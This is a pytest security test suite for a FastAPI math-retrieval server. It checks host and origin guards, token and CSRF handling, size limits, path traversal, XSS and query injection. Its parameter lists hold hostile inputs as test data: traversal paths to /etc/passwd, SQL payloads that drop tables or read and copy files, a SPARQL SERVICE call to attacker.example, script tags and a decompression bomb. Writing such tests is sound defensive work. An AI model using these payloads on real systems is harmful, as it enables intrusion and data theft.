"""Attacks on a server, each with what it must meet: hosts, origins, tokens, sizes, forms, paths, scripts, queries."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest
from fastapi.params import Form
from serve_makers import QUESTION, TOKEN, client_of, csrf_of
from starlette.testclient import TestClient

from mathrag.errors import UsageError
from mathrag.serve import routes, system
from mathrag.serve.options import Limits, ServeOptions, is_loopback
from mathrag.serve.security.access import Buckets, is_token
from mathrag.serve.security.request_guards import HostGuard, host_name

JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def _problem(reply: object, status: int, code: str) -> None:
    assert reply.status_code == status, reply.text  # type: ignore[attr-defined]
    assert reply.headers["content-type"] == "application/problem+json"  # type: ignore[attr-defined]
    found = reply.json()  # type: ignore[attr-defined]
    assert (found["status"], found["code"], found["type"]) == (status, code, f"urn:mathrag:problem:{code}")
    assert found["detail"]
    assert found["title"]


# ---- who may serve, and to whom


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "192.168.1.5", "math.example.org"])
def test_a_public_address_without_a_token_is_refused(host: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="token is needed"):
        ServeOptions(tmp_path, host=host)
    assert ServeOptions(tmp_path, host=host, token=TOKEN).is_public


@pytest.mark.parametrize("token", ["short", "with a\nline break in it", "ümlauts-in-a-token-of-letters"])
def test_a_token_that_can_be_guessed_or_not_be_sent_is_refused(token: str, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="token"):
        ServeOptions(tmp_path, token=token)


def test_the_token_is_not_shown(tmp_path: Path) -> None:
    assert TOKEN not in repr(ServeOptions(tmp_path, token=TOKEN))


@pytest.mark.parametrize(
    ("host", "is_ours"),
    [
        ("localhost", True), ("localhost:8000", True), ("127.0.0.1:8000", True), ("[::1]:8000", True),
        ("LOCALHOST.", True), ("127.9.9.9", True), ("attacker.example", False), ("localhost.attacker.example", False),
        ("attacker.example:8000", False), ("", False), ("localhost:80:80", False), ("[::1", False), ("10.0.0.1", False),
        ("localhost@attacker.example", False), ("localhost/..", False), ("math.example.org", True),
    ],
)  # fmt: skip
def test_only_our_own_names_are_answered_to(host: str, is_ours: bool, tmp_path: Path) -> None:
    async def nothing(*_: object) -> None: ...

    guard = HostGuard(nothing, ServeOptions(tmp_path, hosts=("math.example.org",)))
    assert guard.is_ours(host) is is_ours


def test_a_public_server_answers_to_numbers_but_not_to_strange_names(tmp_path: Path) -> None:
    async def nothing(*_: object) -> None: ...

    guard = HostGuard(nothing, ServeOptions(tmp_path, host="0.0.0.0", token=TOKEN))
    assert guard.is_ours("192.168.1.5:8000")
    assert not guard.is_ours("attacker.example")


def test_dns_rebinding_is_turned_away(client: TestClient) -> None:
    reply = client.get("/api/v1/documents", headers={"Host": "attacker.example"})
    _problem(reply, 421, "host")


def test_loopback_and_names() -> None:
    assert is_loopback("127.0.0.1")
    assert not is_loopback("0.0.0.0")
    assert host_name("[::1]:80") == "::1"


# ---- headers


@pytest.mark.parametrize("path", ["/", "/api/v1/library", "/healthz", "/nothing", "/static/style.css", "/api/v1/docs"])
def test_every_reply_has_the_headers(client: TestClient, path: str) -> None:
    reply = client.get(path)
    policy = reply.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["referrer-policy"] == "same-origin"
    assert reply.headers["x-request-id"]


@pytest.mark.parametrize("path", ["/", "/library", "/api/v1/docs", "/?question=x"])
def test_pages_have_no_inline_script_or_style_and_nothing_from_elsewhere(client: TestClient, path: str) -> None:
    html = client.get(path).text
    assert "<style" not in html
    assert " style=" not in html
    assert "onclick" not in html
    assert 'src="http' not in html
    assert 'href="http' not in html
    assert all("src=" in part.split(">")[0] for part in html.split("<script")[1:])


# ---- tokens and sessions


@pytest.fixture(scope="module")
def guarded(made: Path) -> object:
    limits = Limits(wrong_tokens_a_minute=1_000)
    with client_of(made, token=TOKEN, limits=limits) as found:
        yield found


@pytest.mark.parametrize("path", ["/api/v1/library", "/metrics", "/api/v1/openapi.json", "/library.json", "/ask.json"])
def test_nothing_is_told_without_the_token(guarded: TestClient, path: str) -> None:
    guarded.cookies.clear()
    reply = guarded.get(path)
    _problem(reply, 401, "token_needed")
    assert reply.headers["www-authenticate"] == "Bearer"
    assert guarded.get(path, headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200


def test_health_needs_no_token_and_tells_little(guarded: TestClient) -> None:
    guarded.cookies.clear()
    assert set(guarded.get("/healthz").json()) == {"status", "version"}


@pytest.mark.parametrize(
    "value",
    [f"Bearer {TOKEN}x", f"Bearer {TOKEN[:-1]}", "Bearer", "Bearer ", f"Basic {TOKEN}", TOKEN,
     f"Bearer {TOKEN.upper()}", "Bearer ' OR 1=1", "Bearer null"],
)  # fmt: skip
def test_forged_tokens_are_refused(guarded: TestClient, value: str) -> None:
    guarded.cookies.clear()
    assert guarded.get("/api/v1/library", headers={"Authorization": value}).status_code == 401


def test_forged_sessions_are_refused(guarded: TestClient) -> None:
    for cookie in ("", "x", "0" * 43, "../../etc/passwd", "a" * 5000):
        guarded.cookies.clear()
        reply = guarded.get("/api/v1/library", headers={"Cookie": f"mathrag_session={cookie}"})
        assert reply.status_code == 401


def test_signing_in_gives_a_new_session_that_scripts_and_other_sites_cannot_use(guarded: TestClient) -> None:
    guarded.cookies.clear()
    away = guarded.get("/", headers={"Accept": "text/html"}, follow_redirects=False)
    assert (away.status_code, away.headers["location"]) == (303, "/login")
    login = guarded.get("/login")
    before = guarded.cookies["mathrag_session"]
    wrong = guarded.post("/login", data={"csrf": csrf_of(login.text), "token": "wrong"})
    assert wrong.status_code == 401
    right = guarded.post("/login", data={"csrf": csrf_of(login.text), "token": TOKEN}, follow_redirects=False)
    assert right.status_code == 303
    cookie = right.headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=strict" in cookie
    assert guarded.cookies["mathrag_session"] != before
    page = guarded.get("/")
    assert page.status_code == 200
    out = guarded.post("/logout", data={"csrf": csrf_of(page.text)}, follow_redirects=False)
    assert out.status_code == 303
    guarded.cookies.set("mathrag_session", before)
    assert guarded.get("/api/v1/library").status_code == 401
    guarded.cookies.clear()


@pytest.mark.slow
def test_guessing_the_token_takes_ever_longer(made: Path) -> None:
    with client_of(made, token=TOKEN, limits=Limits(wrong_tokens_a_minute=3), is_ready=False) as client:
        wrong = {"Authorization": "Bearer wrong-wrong-wrong-wrong"}
        assert [client.get("/api/v1/library", headers=wrong).status_code for _ in range(4)] == [401, 401, 401, 429]
        reply = client.get("/api/v1/library", headers=wrong)
        assert reply.status_code == 429
        assert int(reply.headers["retry-after"]) >= 1
        # Who knows the token is not kept out by others who guess from the same address, and gives them no more guesses.
        right = {"Authorization": f"Bearer {TOKEN}"}
        assert client.get("/api/v1/library", headers=right).status_code == 200
        assert client.get("/api/v1/library", headers=wrong).status_code == 429


def test_people_are_led_to_the_form_from_every_page(guarded: TestClient) -> None:
    guarded.cookies.clear()
    for path in ("/", "/formulas", "/api/v1/docs"):
        reply = guarded.get(path, headers={"Accept": "text/html"}, follow_redirects=False)
        assert (reply.status_code, reply.headers["location"]) == (303, "/login"), path
    for path in ("/api/v1/docs.json", "/api/v1/library"):
        _problem(guarded.get(path, headers={"Accept": "text/html"}), 401, "token_needed")


def test_tokens_are_compared_whole() -> None:
    assert is_token(TOKEN, TOKEN)
    assert not is_token("", TOKEN)
    assert not is_token(TOKEN + "\ud800", TOKEN)


# ---- changes asked for by other sites


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://attacker.example"}, {"Origin": "null"}, {"Origin": "http://localhost:9000"},
        {"Origin": "http://localhost:8000.attacker.example"}, {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"}, {"Origin": "garbage"}, {"Origin": "http://[::1"},
    ],
)  # fmt: skip
def test_cross_site_posts_are_turned_away(client: TestClient, headers: dict[str, str]) -> None:
    client.cookies.clear()
    for path in ("/api/v1/ask", "/", "/library/upload", "/api/v1/jobs"):
        reply = client.post(path, headers={**headers, **JSON}, content=b"{}")
        _problem(reply, 403, "cross_site")


def test_a_form_of_another_site_cannot_speak_json(client: TestClient) -> None:
    client.cookies.clear()
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""):
        reply = client.post("/api/v1/ask", content=json.dumps({"question": QUESTION}), headers={"Content-Type": kind})
        _problem(reply, 415, "media_type")


def test_our_own_origin_is_taken(client: TestClient) -> None:
    client.cookies.clear()
    headers = {"Origin": "http://localhost:8000", "Sec-Fetch-Site": "same-origin"}
    assert client.post("/api/v1/ask", json={"question": QUESTION}, headers=headers).status_code == 200


def test_every_form_and_every_change_in_a_session_needs_the_secret(client: TestClient) -> None:
    """All routes that change something, those added later included."""
    client.cookies.clear()
    client.get("/")
    assert client.cookies["mathrag_session"]
    documented = client.app.openapi()["paths"]  # type: ignore[attr-defined]
    changing = [(path, method.upper()) for path, methods in documented.items() for method in methods if method != "get"]
    pages = [route for router in (system.router, *routes.PAGE_ROUTERS) for route in router.routes]
    changing += [(route.path, method) for route in pages for method in route.methods - {"GET", "HEAD"}]
    # Scripts of our pages send JSON, for which the guard itself wants the secret; such a route does not read forms.
    speaking_json = {
        route.path
        for route in pages
        if route.body_field is not None and not isinstance(route.body_field.field_info, Form)
    }
    assert ("/api/v1/ask", "POST") in changing
    assert ("/library/upload", "POST") in changing
    for path, method in changing:
        for secret in ("", "wrong"):
            if path.startswith("/api/") or path in speaking_json:
                reply = client.request(method, path, headers={**JSON, "X-CSRF-Token": secret}, content=b"{}")
            else:
                reply = client.request(method, path, headers=FORM, content=f"csrf={secret}&question=x".encode())
            assert reply.status_code in (403, 415), (method, path, reply.status_code)
    client.cookies.clear()


def test_the_secret_of_the_session_lets_our_pages_change_things(client: TestClient) -> None:
    client.cookies.clear()
    secret = csrf_of(client.get("/").text)
    reply = client.post("/api/v1/ask", json={"question": QUESTION}, headers={"X-CSRF-Token": secret})
    assert reply.status_code == 200
    client.cookies.clear()


def test_no_other_site_is_allowed_to_read(client: TestClient) -> None:
    reply = client.options(
        "/api/v1/ask", headers={"Origin": "https://attacker.example", "Access-Control-Request-Method": "POST"}
    )
    assert not any(name.startswith("access-control") for name in reply.headers)


# ---- sizes, forms and speed


def test_oversized_bodies_are_turned_away_by_their_length_and_by_their_bytes(client: TestClient) -> None:
    client.cookies.clear()
    big = json.dumps({"question": "x" * 2_000_000}).encode()
    _problem(client.post("/api/v1/ask", content=big, headers=JSON), 413, "too_large")

    def pieces() -> object:
        for _ in range(40):
            yield b"x" * 65_536

    _problem(client.post("/api/v1/ask", content=pieces(), headers=JSON), 413, "too_large")


def test_decompression_bombs_are_not_unpacked(client: TestClient) -> None:
    bomb = gzip.compress(b'{"question": "' + b"x" * 10_000_000 + b'"}')
    for encoding in ("gzip", "deflate", "br", "zstd", "gzip, gzip"):
        reply = client.post("/api/v1/ask", content=bomb, headers={**JSON, "Content-Encoding": encoding})
        _problem(reply, 415, "encoding")


@pytest.mark.parametrize(
    "body",
    [b"", b"{", b"null", b"[]", b'"x"', b"\xff\xfe", b"[" * 100_000, b'{"question": NaN}', b'{"question": ["x"]}',
     b'{"question": "\\ud800"}', b'{"question": ""}', b'{"question": "x", "unknown": 1}',
     b'{"question": "x", "pinned": {"m": 5}}', b'{"question": "x", "formats": ["exe"]}'],
    ids=lambda body: repr(body[:20]),
)  # fmt: skip
def test_malformed_requests_are_problems_and_not_failures(client: TestClient, body: bytes) -> None:
    client.cookies.clear()
    reply = client.post("/api/v1/ask", content=body, headers=JSON)
    assert reply.status_code in (400, 422), reply.text
    assert reply.headers["content-type"] == "application/problem+json"


def test_a_problem_does_not_repeat_what_was_sent(client: TestClient) -> None:
    reply = client.post("/api/v1/ask", json={"question": "x", "unit": "secret-" * 200})
    assert reply.status_code == 422
    assert "secret-secret" not in reply.text


def test_buckets_refill_and_forget() -> None:
    now = [0.0]
    buckets = Buckets(60, burst=2, clock=lambda: now[0])
    assert [buckets.take("a") == 0 for _ in range(3)] == [True, True, False]
    assert buckets.take("b") == 0
    now[0] = 1.0
    assert buckets.take("a") == 0
    assert buckets.take("a") > 0


@pytest.mark.slow
def test_too_many_requests_have_to_wait(made: Path) -> None:
    with client_of(made, limits=Limits(requests_a_minute=40)) as client:
        # What headers say about where a request comes from is not believed.
        names = ("X-Forwarded-For", "X-Real-IP", "Client-IP")
        lies = [dict.fromkeys(names, f"10.0.0.{number}") for number in range(12)]
        statuses = [client.get("/api/v1/library", headers=each).status_code for each in lies]
        assert statuses == [200] * 10 + [429] * 2
        assert client.get("/healthz").status_code == 200


@pytest.mark.slow
def test_a_chat_program_is_told_that_it_asks_too_often(made: Path) -> None:
    with client_of(made, limits=Limits(requests_a_minute=1), is_ready=False) as client:
        assert client.get("/v1/models").status_code == 200
        reply = client.get("/v1/models")
        assert (reply.status_code, reply.json()["error"]["type"]) == (429, "rate_limit_error")
        assert int(reply.headers["retry-after"]) >= 1


# ---- paths


@pytest.mark.parametrize(
    "path",
    ["/static/../app.py", "/static/..%2fapp.py", "/static/%2e%2e/%2e%2e/errors.py", "/static//etc/passwd",
     "/static/..\\app.py", "/static/%00", "/..%2f..%2fetc/passwd", "/static/style.css/..", "/static/"],
)  # fmt: skip
def test_no_path_leads_out_of_the_static_folder(client: TestClient, path: str) -> None:
    reply = client.get(path)
    assert reply.status_code in (400, 404, 405)
    assert "import" not in reply.text
    assert "root:" not in reply.text


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "%2e%2e%2f", "f-'; DROP TABLE formulas", "x" * 5000, "%00", "f-zzz"]
)
def test_ids_are_only_ids(client: TestClient, name: str) -> None:
    for path in ("formulas", "documents", "constants", "jobs"):
        assert client.get(f"/api/v1/{path}/{name}").status_code in (404, 422)


def test_header_injection_stays_text(client: TestClient) -> None:
    reply = client.get("/api/v1/formulas", params={"q": "x\r\nSet-Cookie: a=b"})
    assert reply.status_code == 200
    assert "set-cookie" not in reply.headers
    reply = client.get("/login%0d%0aSet-Cookie:%20a=b", headers={"Accept": "text/html"})
    assert reply.status_code == 404
    assert "a=b" not in reply.headers.get("set-cookie", "")


def test_files_of_the_server_are_not_read_for_strangers(client: TestClient, made: Path) -> None:
    client.cookies.clear()
    for path in ("/etc/passwd", "../../../etc/passwd", str(made), "~", "/proc/self/environ", "\x00"):
        reply = client.post("/api/v1/jobs", json={"paths": [path]})
        assert reply.status_code in (403, 422), reply.text
    assert client.get("/api/v1/jobs").json()["total"] == 0


# ---- what documents say is text


def test_scripts_in_titles_labels_and_meanings_are_shown_as_text(client: TestClient) -> None:
    client.cookies.clear()
    pages = [client.get("/library").text, client.get("/").text]
    secret = csrf_of(pages[1])
    question = "<script>alert(1)</script> What is the work for a charge of 2 C and a voltage of 3 V?"
    pages.append(client.post("/", data={"csrf": secret, "question": question}).text)
    for html in pages:
        assert "<script>alert" not in html
        assert "<img src=x" not in html
        assert "<b onclick" not in html
    assert "&lt;script&gt;" in pages[0]
    assert "&lt;script&gt;alert(1)" in pages[2]
    client.cookies.clear()


# ---- queries


@pytest.mark.slow
@pytest.mark.parametrize(
    "query",
    ["DROP TABLE formulas", "DELETE FROM formulas", "UPDATE formulas SET label = ''", "ATTACH 'x.sqlite' AS x",
     "PRAGMA writable_schema = 1", "SELECT load_extension('x')", "SELECT 1; DROP TABLE formulas",
     "SELECT readfile('/etc/passwd')", "VACUUM INTO '/tmp/stolen.sqlite'", "SELECT writefile('/tmp/x', 'x')",
     "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c"],
)  # fmt: skip
def test_sql_attacks_change_nothing_and_find_nothing(client: TestClient, query: str) -> None:
    client.cookies.clear()
    before = client.get("/api/v1/library").json()["totals"]
    reply = client.post("/api/v1/sql", json={"query": query})
    _problem(reply, 422, "query_refused")
    assert client.get("/api/v1/library").json()["totals"] == before


@pytest.mark.parametrize(
    "query",
    ["DELETE WHERE { ?s ?p ?o }", "INSERT DATA { <urn:a> <urn:b> <urn:c> }", "DROP ALL", "LOAD <file:///etc/passwd>",
     "SELECT * WHERE { SERVICE <http://attacker.example/> { ?s ?p ?o } }", "CLEAR ALL"],
)  # fmt: skip
def test_sparql_attacks_change_nothing_and_reach_nobody(client: TestClient, query: str) -> None:
    client.cookies.clear()
    _problem(client.post("/api/v1/sparql", json={"query": query}), 422, "query_refused")
